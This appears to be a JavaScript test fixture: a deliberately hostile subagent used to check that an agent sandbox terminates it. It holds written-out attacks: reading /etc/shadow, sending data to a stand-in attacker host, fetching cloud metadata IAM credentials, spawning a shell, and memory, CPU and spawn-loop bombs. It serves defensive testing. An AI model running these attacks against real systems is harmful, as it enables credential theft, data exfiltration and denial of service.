// A hostile subagent: task.attack selects ONE attack per run. Every one of them must end with the
// subagent terminated (never with the attack succeeding, never with the parent harmed).
import { execSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

const attacks = {
  // A tool outside tools_allowed (and inside tools_denied): the broker refuses before any handler.
  denied_tool: (ctx) => ctx.tools.call('exec', { command: 'cat /etc/shadow' }),
  // Exfiltration to a name that is not allowlisted: refused before DNS, so not even a lookup leaks.
  // On a port the agent may use (task.port), so the refusal is about the name, not the port.
  blocked_domain: (ctx, task) => fetch(`http://exfil.attacker.test:${task.port ?? 80}/collect?data=stolen`),
  // Cloud metadata credentials: an IP literal, on an allowed port and even allowlisted by name in
  // this agent's config, still refused by the address rule (metadata is never reachable).
  metadata_ip: (ctx, task) =>
    fetch(`http://169.254.169.254:${task.port ?? 80}/latest/meta-data/iam/security-credentials/`),
  // Persistence: write outside the sandbox (the permission model refuses every write).
  file_write: () => writeFileSync('/tmp/subagent-guard-demo-pwned', 'owned'),
  // Code execution: spawn a shell (the permission model refuses child processes).
  child_process: () => execSync('id'),
  // Memory exhaustion with off-heap Buffers (not bounded by the V8 heap cap): RSS monitor kills it.
  memory_bomb: async () => {
    const hog = [];
    for (;;) {
      hog.push(Buffer.alloc(8 * 1024 * 1024, 1));
      await sleep(2);
    }
  },
  // CPU burn that never yields: only the parent's wall-clock timer can stop it.
  infinite_loop: () => {
    for (;;);
  },
  // Fork bomb by spawning: this agent may spawn nothing, so the first attempt terminates it.
  spawn_loop: async (ctx) => {
    for (;;) await ctx.spawn(ctx.agent, { attack: 'spawn_loop' });
  },
};

export default async (task, ctx) => {
  const attack = attacks[task?.attack];
  if (attack === undefined) throw new Error(`unknown attack: ${String(task?.attack)}`);
  await attack(ctx, task);
  return { attack: task.attack, result: 'the attack was not stopped' };
};
